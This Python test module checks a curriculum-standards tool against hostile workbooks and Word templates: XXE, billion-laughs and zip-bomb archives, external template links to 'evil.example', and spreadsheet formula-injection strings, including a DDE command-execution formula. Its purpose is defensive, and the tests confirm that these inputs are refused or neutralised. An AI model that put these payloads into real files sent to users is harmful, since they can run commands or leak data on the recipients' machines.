"""Hostile input to the exports and imports: workbooks, reference templates, formula text.

Generated cases (tests/hostile_archives.py) run through the real command line in-process
(`zhibiao import xlsx`, `zhibiao export docx --reference-docx`): each asserts the exit code,
a Chinese message and no traceback. Memory for archives declaring gigabytes is measured in a
subprocess. Text that looks like a formula is exported as text and imports back unchanged.
"""

from __future__ import annotations

import contextlib
import io
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

import docx
import pytest
from openpyxl import Workbook, load_workbook

from builder.docx.template import TEMPLATE
from builder.opendata.loading import load_standards
from builder.opendata.xlsx_export import build_workbook, workbook_bytes
from builder.project.loading import open_project
from tests.conftest import REPO
from tests.hostile_archives import ArchiveCase, archive_attacks, part_attacks
from tests.opendata_support import FIXTURE

CHINESE = re.compile(r"[\u4e00-\u9fff]")


@dataclass(frozen=True)
class Outcome:
    code: int
    stdout: str
    stderr: str


def run_inprocess(args: list[str], cwd: Path) -> Outcome:
    """`zhibiao ARGS` in this process (same entry point, exit code and streams as a user gets)."""
    from builder.cli import main

    out, err = io.StringIO(), io.StringIO()
    old_argv, old_cwd = sys.argv, Path.cwd()
    sys.argv = ["zhibiao", *args]
    os.chdir(cwd)
    code = 0
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            main()
    except SystemExit as done:
        code = done.code if isinstance(done.code, int) else 1
    finally:
        sys.argv = old_argv
        os.chdir(old_cwd)
    return Outcome(code, out.getvalue(), err.getvalue())


def assert_clean_failure(result: Outcome, case: ArchiveCase) -> None:
    """Exit 0/1/2 (2 when refused), a Chinese message, no traceback, no internal error."""
    text = result.stdout + result.stderr
    assert "Traceback" not in text and "内部错误" not in text, text
    assert result.code in ((2,) if case.refused else (0, 1, 2)), (result.code, text)
    if result.code:
        assert CHINESE.search(result.stderr + result.stdout), text
    if case.expect_text:
        assert case.expect_text in text, text


def _workbook_base() -> bytes:
    project = open_project(FIXTURE / "standards")
    corpus = load_standards(project)
    entry = next(iter(corpus.specialties.values()))
    import datetime as dt

    return workbook_bytes(
        build_workbook(entry, project.config), dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
    )


WORKBOOK = _workbook_base()
TEMPLATE_BYTES = TEMPLATE.read_bytes()


def _rows_sheet(rows: int, columns: int = 4, last_row: int | None = None) -> bytes:
    """A workbook whose competency sheet has `rows` rows (written as raw XML, fast)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(WORKBOOK)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        names = src.namelist()
        sheet = next(n for n in names if n.endswith("sheet2.xml"))
        for name in names:
            data = src.read(name)
            if name == sheet:
                cells = "".join(
                    f'<c t="inlineStr"><is><t>v{c}</t></is></c>' for c in range(columns)
                )
                body = "".join(f'<row r="{r}">{cells}</row>' for r in range(1, rows + 1))
                if last_row:
                    body += f'<row r="{last_row}">{cells}</row>'
                data = (
                    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                    'openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
                    f"<sheetData>{body}</sheetData></worksheet>"
                ).encode()
            dst.writestr(name, data)
    return out.getvalue()


def _row_cases() -> list[ArchiveCase]:
    return [
        ArchiveCase("rows-million", _rows_sheet(1_000_000, 1), True, "超过 100000 行"),
        ArchiveCase("rows-last-is-1048576", _rows_sheet(2, 4, 1_048_576), True, "超过 100000 行"),
        ArchiveCase("rows-16384-columns", _rows_sheet(3, 16_384), False),
    ]


WORKBOOK_CASES = [
    *part_attacks(WORKBOOK, "xlsx"),
    *archive_attacks(WORKBOOK, "xlsx"),
]
TEMPLATE_CASES = [
    *part_attacks(TEMPLATE_BYTES, "docx"),
    *archive_attacks(TEMPLATE_BYTES, "docx"),
]


def _form_bases() -> tuple[bytes, bytes]:
    """A 意见反馈表 as the site offers it (Excel and Word), as a unit would return it."""
    from builder.comments.anchors import Anchor
    from builder.comments.forms import FormInfo, form_docx, form_xlsx

    info = FormInfo("510209/specialty", "示例标准", "征求意见稿", "2027-01-15")
    anchors = [Anchor("7.1", "素质"), Anchor("课程 ZJ02", "Python程序设计")]
    return form_xlsx(info, anchors), form_docx(info, anchors)


FORM_XLSX, FORM_DOCX = _form_bases()
FORM_CASES = [
    *part_attacks(FORM_XLSX, "form-xlsx"),
    *archive_attacks(FORM_XLSX, "form-xlsx"),
    *part_attacks(FORM_DOCX, "form-docx"),
    *archive_attacks(FORM_DOCX, "form-docx"),
]
"""Returned 意见反馈表 (`zhibiao comments import`): any unit may send one."""


@pytest.mark.parametrize("case", FORM_CASES, ids=[c.name for c in FORM_CASES])
def test_hostile_returned_form(case: ArchiveCase, tmp_path: Path) -> None:
    """Measured before it is read; refused or damaged, it is a problem of that form (in
    Chinese), never an exception."""
    from builder.comments.importer import read_form

    path = tmp_path / f"form.{case.name.split('-')[1]}"
    path.write_bytes(case.data)
    form = read_form(path)
    said = "".join(message for _, message in form.problems)
    if case.refused:
        assert form.problems and not form.rows, case.name
    if form.problems:
        assert CHINESE.search(said), said
    if case.expect_text:
        assert case.expect_text in said, said


@pytest.mark.parametrize(
    "name", ["form-xlsx-truncated-xl/worksheets/sheet1.xml", "form-docx-unclosed-word/document.xml"]
)
def test_damaged_returned_form_on_the_command_line(name: str, tmp_path: Path) -> None:
    """A form whose XML is damaged: `comments import` names it and goes on (exit 1), no
    internal error (it was exit 3)."""
    case = next(c for c in FORM_CASES if c.name == name)
    project = tmp_path / "p"
    import shutil

    shutil.copytree(FIXTURE, project)
    suffix = name.split("-")[1]
    (project / f"坏.{suffix}").write_bytes(case.data)
    result = run_inprocess(["comments", "import", f"坏.{suffix}"], project)
    text = result.stdout + result.stderr
    assert result.code == 1, (result.code, text)
    assert "Traceback" not in text and "内部错误" not in text, text
    assert f"坏.{suffix}: 无法读取" in result.stderr, text


def test_there_are_enough_archive_cases() -> None:
    assert len(WORKBOOK_CASES) + len(TEMPLATE_CASES) >= 400


@pytest.mark.parametrize("case", WORKBOOK_CASES, ids=[c.name for c in WORKBOOK_CASES])
def test_hostile_workbook(case: ArchiveCase, tmp_path: Path) -> None:
    (tmp_path / "book.xlsx").write_bytes(case.data)
    args = ["import", "xlsx", "book.xlsx", "-o", "out.yaml", "--specialty", "510209"]
    result = run_inprocess([*args, "--version", "2025"], tmp_path)
    assert_clean_failure(result, case)
    if result.code != 0:
        assert not (tmp_path / "out.yaml").exists()


@pytest.mark.slow
@pytest.mark.parametrize("case", _row_cases(), ids=lambda c: c.name)
def test_long_and_wide_sheets(case: ArchiveCase, tmp_path: Path) -> None:
    (tmp_path / "book.xlsx").write_bytes(case.data)
    args = ["import", "xlsx", "book.xlsx", "-o", "out.yaml", "--version", "2025"]
    assert_clean_failure(run_inprocess(args, tmp_path), case)


@pytest.fixture(scope="module")
def docx_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small project with one specialty set to export."""
    import shutil

    root = tmp_path_factory.mktemp("docx-hostile")
    shutil.copytree(FIXTURE, root, dirs_exist_ok=True)
    return root


@pytest.mark.parametrize("case", TEMPLATE_CASES, ids=[c.name for c in TEMPLATE_CASES])
def test_hostile_reference_template(case: ArchiveCase, docx_project: Path, tmp_path: Path) -> None:
    from builder.docx.template import load_template

    template = tmp_path / "ref.docx"
    template.write_bytes(case.data)
    try:
        load_template(template)
    except Exception as exc:
        from builder.project import UsageError

        assert isinstance(exc, UsageError), repr(exc)
        assert CHINESE.search(exc.render())
        if case.expect_text:
            assert case.expect_text in exc.render(), exc.render()
    else:
        assert not case.refused, "accepted a template that must be refused"


@pytest.mark.parametrize("name", ["docx-xxe-file-word/document.xml", "docx-declares-16gb"])
def test_hostile_template_on_the_command_line(
    name: str, docx_project: Path, tmp_path: Path
) -> None:
    case = next(c for c in TEMPLATE_CASES if c.name == name)
    template = tmp_path / "ref.docx"
    template.write_bytes(case.data)
    args = ["export", "docx", "standards", "-o", str(tmp_path / "out"), "--no-cache"]
    result = run_inprocess([*args, "--reference-docx", str(template)], docx_project)
    assert_clean_failure(result, case)
    assert not (tmp_path / "out").exists()


def _peak_mb(script: str) -> float:
    """Peak resident memory of a fresh interpreter running `script` (VmHWM, reset at exec)."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    probe = "\nprint(next(l for l in open('/proc/self/status') if l.startswith('VmHWM')))"
    done = subprocess.run(
        [sys.executable, "-c", script + probe], env=env, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and CHINESE.search(done.stdout), done.stdout
    return int(done.stdout.rsplit("VmHWM:", 1)[1].split()[0]) / 1024


@pytest.mark.parametrize(
    "name", ["xlsx-declares-16gb", "xlsx-ratio-bomb", "xlsx-billion-laughs-xl/workbook.xml"]
)
def test_hostile_workbooks_stay_small(name: str, tmp_path: Path) -> None:
    case = next(c for c in WORKBOOK_CASES if c.name == name)
    book = tmp_path / "book.xlsx"
    book.write_bytes(case.data)
    script = (
        "import sys\nfrom pathlib import Path\n"
        "from builder.opendata.xlsx_import import ImportOptions, import_xlsx\n"
        "from builder.project import UsageError\n"
        f"try:\n    import_xlsx(Path({str(book)!r}), Path({str(tmp_path / 'o.yaml')!r}), ImportOptions())\n"
        "except UsageError as e:\n    print(e.render())\nelse:\n    sys.exit(1)"
    )
    assert _peak_mb(script) < 200


@pytest.mark.parametrize(
    "name",
    [
        "form-xlsx-declares-16gb",
        "form-xlsx-ratio-bomb",
        "form-docx-billion-laughs-word/document.xml",
    ],
)
def test_hostile_returned_forms_stay_small(name: str, tmp_path: Path) -> None:
    case = next(c for c in FORM_CASES if c.name == name)
    form = tmp_path / f"form.{name.split('-')[1]}"
    form.write_bytes(case.data)
    script = (
        "from pathlib import Path\n"
        "from builder.comments.importer import read_form\n"
        f"read = read_form(Path({str(form)!r}))\n"
        "assert read.problems and not read.rows\nprint(read.problems)"
    )
    assert _peak_mb(script) < 200


def test_hostile_template_stays_small(tmp_path: Path) -> None:
    case = next(c for c in TEMPLATE_CASES if c.name == "docx-declares-16gb")
    template = tmp_path / "ref.docx"
    template.write_bytes(case.data)
    script = (
        "import sys\nfrom pathlib import Path\n"
        "from builder.docx.template import load_template\n"
        "from builder.project import UsageError\n"
        f"try:\n    load_template(Path({str(template)!r}))\n"
        "except UsageError as e:\n    print(e.render())\nelse:\n    sys.exit(1)"
    )
    assert _peak_mb(script) < 200


def test_the_hostile_suite_has_enough_inputs() -> None:
    """The hostile suite as a whole: check inputs, archives, outputs (issue 12: ≥ 1,500)."""
    from tests.hostile_cases import all_cases

    archives = len(WORKBOOK_CASES) + len(TEMPLATE_CASES) + len(FORM_CASES)
    total = len(all_cases()) + archives + len(OUTPUT_CASES)
    assert total >= 1500, total


def test_external_relationships_are_not_exported(docx_project: Path, tmp_path: Path) -> None:
    document = docx.Document(str(TEMPLATE))
    settings = document.settings
    settings_part = document.part._settings_part
    rid = settings_part.relate_to(
        "http://evil.example/t.dotm",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        is_external=True,
    )
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), rid)
    settings.element.append(attached)
    header = document.sections[0].header
    header.part.relate_to(
        "http://evil.example/pixel.png",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
        is_external=True,
    )
    template = tmp_path / "ref.docx"
    document.save(str(template))
    out = tmp_path / "out"
    args = [
        "export",
        "docx",
        "standards",
        "-o",
        str(out),
        "--no-cache",
        "--force",
        "--reference-docx",
        str(template),
    ]
    result = run_inprocess(args, docx_project)
    assert result.code == 0, result.stderr
    written = sorted(out.glob("*.docx"))
    assert written
    for path in written:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                data = archive.read(name)
                assert b"evil.example" not in data, name
                assert b'TargetMode="External"' not in data, name


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example","x")',
]


def test_formula_text_is_text_in_the_exported_workbook(tmp_path: Path) -> None:
    from openpyxl.cell.cell import Cell

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    from builder.opendata.xlsx_export import _append

    _append(sheet, FORMULAS)
    raw = io.BytesIO()
    book.save(raw)
    with zipfile.ZipFile(raw) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    again = load_workbook(io.BytesIO(raw.getvalue()))
    cells: list[Cell] = list(again.active[1])  # type: ignore[index]
    assert [c.value for c in cells] == FORMULAS
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells)


def test_formula_text_is_text_in_the_consultation_form() -> None:
    """The 意见反馈表 the site offers quotes 原文 that starts like a formula, as the export does
    (units edit this workbook: without the quote prefix Excel re-reads the cell on editing)."""
    from builder.comments.anchors import Anchor
    from builder.comments.forms import ANCHOR_SHEET, FORM_SHEET, FormInfo, form_xlsx

    info = FormInfo("=1+1", "+标题", "-征求意见稿", "@2027")
    raw = form_xlsx(info, [Anchor(f"K{n}", text) for n, text in enumerate(FORMULAS)])
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        xml = "".join(
            archive.read(name).decode() for name in archive.namelist() if "worksheets" in name
        )
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(io.BytesIO(raw))
    prefixed = {
        (sheet.title, cell.value): cell.quotePrefix
        for sheet in (book[FORM_SHEET], book[ANCHOR_SHEET])
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    originals = {" ".join(text.split()) for text in FORMULAS}  # as the form shows 原文
    for sheet in (FORM_SHEET, ANCHOR_SHEET):
        assert all(prefixed[(sheet, text)] for text in originals), sheet
    assert prefixed[(FORM_SHEET, "=1+1")] and prefixed[(FORM_SHEET, "@2027")]


def _escape_sample() -> list[str]:
    """One escaped-control-character case per character, spread over the files."""
    from tests.hostile_cases import all_cases

    seen: dict[str, str] = {}
    for case in all_cases():
        if case.name.startswith("escape-"):
            seen.setdefault(case.name.split("-")[1], case.name)
    return sorted(seen.values())


ESCAPES = _escape_sample()
OUTPUTS = {
    "xlsx": ["export", "xlsx", "standards", "-o", "out"],
    "json": ["export", "json", "standards", "-o", "out/data.json"],
    "docx": ["export", "docx", "standards", "-o", "out", "--force", "--no-cache", "-j", "1"],
    "build": ["build", "-j", "1"],
    "build-force": ["build", "--force", "--no-docx", "-j", "1"],
}


@pytest.fixture(scope="module")
def hostile_base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from benchmarks.generate import generate

    root = tmp_path_factory.mktemp("escape-base")
    generate(root, 1, 2025, course_standards=2)
    return root


OUTPUT_CASES = [
    (name, output)
    for output, step in (("xlsx", 3), ("json", 3), ("docx", 9), ("build", 9), ("build-force", 17))
    for name in ESCAPES[::step]
]


@pytest.mark.parametrize(
    ("name", "output"), OUTPUT_CASES, ids=[f"{o}-{n}" for n, o in OUTPUT_CASES]
)
def test_escaped_control_characters_never_crash_an_output(
    name: str, output: str, hostile_base: Path, tmp_path: Path
) -> None:
    import shutil

    from tests.hostile_cases import IDENT, all_cases

    case = next(c for c in all_cases() if c.name == name)
    project = tmp_path / "p"
    shutil.copytree(hostile_base, project)
    assert case.data is not None
    (project / "standards" / IDENT.folder / case.target).write_bytes(case.data)
    result = run_inprocess(OUTPUTS[output], project)
    text = result.stdout + result.stderr
    assert result.code in (0, 1), text
    assert "Traceback" not in text and "内部错误" not in text
    assert "ZB014" in text, text
    if result.code == 1:
        assert CHINESE.search(result.stderr)
